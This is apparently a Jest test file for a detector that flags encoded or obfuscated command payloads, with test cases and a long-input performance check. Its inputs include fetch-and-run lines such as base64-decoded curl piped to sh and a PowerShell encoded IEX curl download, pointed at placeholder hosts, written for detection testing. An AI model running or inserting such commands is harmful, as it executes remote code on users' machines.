import { expect, test } from '@jest/globals'
import { encodedPayloads } from '../../src/detect/encoded-payload.js'

const kinds = (text: string) => encodedPayloads(text).map(({ kind }) => kind)
const base64 = (text: string, encoding: BufferEncoding = 'utf8') => Buffer.from(text, encoding).toString('base64')
const fetching = base64('curl -s https://files.invalid/run.sh')
const harmless = base64('nothing here does anything at all')

test.each([
  [`echo ${fetching} | base64 -d | sh`, ['command']],
  [`echo ${harmless} | base64 -D | sudo bash`, ['run']],
  [`eval "$(echo ${fetching} | base64 --decode)"`, ['command']],
  [`echo ${harmless} | openssl enc -base64 -d | python3`, ['run']],
  [`echo 6c73 | xxd -r -p | sh`, ['run']],
  [`Function(atob('${harmless}'))()`, ['run']],
  [`eval(Buffer.from('${fetching}', 'base64').toString())`, ['command']],
  [`exec(zlib.decompress(base64.b64decode('${harmless}')))`, ['run']],
  [`exec(marshal.loads(data))`, ['run']],
  [`powershell.exe -NoProfile -EncodedCommand ${base64('IEX (curl https://files.invalid/a)', 'utf16le')}`, ['command']],
  [`String.fromCharCode(${Array.from({ length: 30 }, (_, n) => 60 + n).join(', ')})`, ['escapes']],
  [base64(`#!/bin/sh\n${'echo hello\n'.repeat(30)}`), ['program']],
  [base64(`just some text ${'that is long '.repeat(30)}`), []],
  [`echo ${harmless} | base64 -d`, []],
  ['kubectl get secret x -o jsonpath={.data.a} | base64 --decode | jq .', []],
  ['curl -sSf https://sh.example | sh', []],
  ['pwsh -EncodedCommand $encoded', []],
  ['const image = atob(data)', []],
  ['eval(expression)', []]
])('%j: %j', (text, expected) => {
  expect(kinds(text)).toEqual(expected)
})

test('long texts are read to their end', () => {
  for (const unit of [
    'A',
    'A1b',
    '\\x41',
    '%41',
    '&#65;',
    '[]()!+',
    '_0x12ab ',
    'eval(atob(',
    'base64 -d ',
    'FromBase64String('
  ])
    expect(encodedPayloads(unit.repeat(20_000)).length).toBeLessThan(20_000)
})
